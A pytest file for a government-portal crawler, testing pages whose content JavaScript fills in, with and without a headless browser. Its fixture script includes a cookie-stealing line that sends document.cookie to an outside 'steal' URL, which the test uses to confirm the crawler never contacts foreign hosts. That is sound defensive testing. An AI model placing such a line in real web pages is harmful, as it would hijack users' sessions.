"""A portal whose pages are empty until scripts have run, with and without a browser."""

from __future__ import annotations

import importlib.util
import json
import shutil
from pathlib import Path

import pytest

from govcrawl.crawl import options
from govcrawl.crawl.options import check_settings, project_settings
from govcrawl.errors import UsageError
from tests.crawl.manners import ask, crawl, small
from tests.crawl.network import Answer, Asked, Network, Site, site
from tests.portals.world import Portal

CHROMIUM = next(filter(None, map(shutil.which, ("chromium", "chromium-browser", "google-chrome"))), None)
NEEDED = pytest.mark.skipif(
    CHROMIUM is None or importlib.util.find_spec("playwright") is None,
    reason="needs the extra browser and Chromium",
)
SHELL = """<!DOCTYPE html><html><head><meta charset="utf-8"><title>石坞县人民政府</title>
<link rel="stylesheet" href="/style.css"></head><body><div id="app"></div>
<script>var data = "%s";</script><script src="/app.js"></script>
<script src="http://tracker.example.com/count.js"></script><img src="/logo.png"></body></html>"""
APP = """fetch(data).then(answer => answer.json()).then(links => {
  document.getElementById("app").innerHTML = "<ul>" + links.map(link =>
    `<li><a href="${link.url}">${link.title}</a><span>${link.date}</span></li>`).join("") + "</ul>";
});
fetch("http://www.elsewhere.gov.cn/steal?" + document.cookie);"""


def scripted(portal: Portal) -> Site:
    """The portal's reports behind a start page and a list that scripts fill."""
    column = {"url": "/nb/", "title": "政府信息公开年报", "date": ""}
    about = {"url": "/about.html", "title": "关于我们", "date": ""}
    reports = [
        {"url": report.urls[0], "title": report.truth.title, "date": report.truth.published.isoformat()}
        for report in portal.truth
    ]
    own = {
        "/": SHELL % "/api/menu.json",
        "/nb/": SHELL % "/api/list.json",
        "/app.js": APP,
        "/api/menu.json": json.dumps([column, about]),
        "/api/list.json": json.dumps(reports),
        "/robots.txt": "User-agent: *\nDisallow: /style.css\n",
    }

    def answer(asked: Asked) -> Answer | None:
        return Answer(own[asked.path].encode(), wait=0.05) if asked.path in own else None

    return site(portal, answer)


@NEEDED
def test_lists_that_scripts_fill_are_read_through_the_crawler_alone(tmp_path: Path) -> None:
    portal = small("scripted", 91)
    outside = {"tracker.example.com": portal.style, "www.elsewhere.gov.cn": portal.style}
    with Network({portal.host: scripted(portal)}) as network:
        settings = ["BROWSER=True", f"BROWSER_EXECUTABLE={CHROMIUM}"]
        ended = crawl(tmp_path, "-a", f"url={portal.spec.home}", settings=settings, network=network)
        asked = list(network.log)
    assert ended.status == 0, ended.errors
    assert ask(tmp_path, "SELECT count(*) FROM reports") == [(len(portal.truth),)]
    assert "drawn by a browser" in ended.errors
    assert not outside.keys() & {one.host for one in asked}
    assert max(one.together for one in asked) == 1
    paths = [one.path for one in asked]
    assert {"/api/menu.json", "/api/list.json"} <= set(paths)
    assert not {"/style.css", "/logo.png"} & set(paths)
    assert {one.headers["User-Agent"] for one in asked} == {asked[0].headers["User-Agent"]}
    rows = (tmp_path / "logs" / "000001-requests.jsonl").read_text(encoding="utf-8").splitlines()
    assert len(rows) == len(asked)


def test_without_it_the_portal_says_what_it_needs(tmp_path: Path) -> None:
    portal = small("scripted", 91)
    with Network({portal.host: scripted(portal)}) as network:
        ended = crawl(tmp_path, "-a", f"url={portal.spec.home}", network=network)
    assert ended.status == 3
    assert "needs a browser" in ended.errors


def test_the_missing_extra_is_one_line_with_the_command(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(options, "find_spec", lambda name: None)
    with pytest.raises(UsageError, match=r"pip install 'govcrawl\[browser\]'") as caught:
        check_settings(project_settings(["BROWSER=True"]))
    assert "\n" not in str(caught.value)
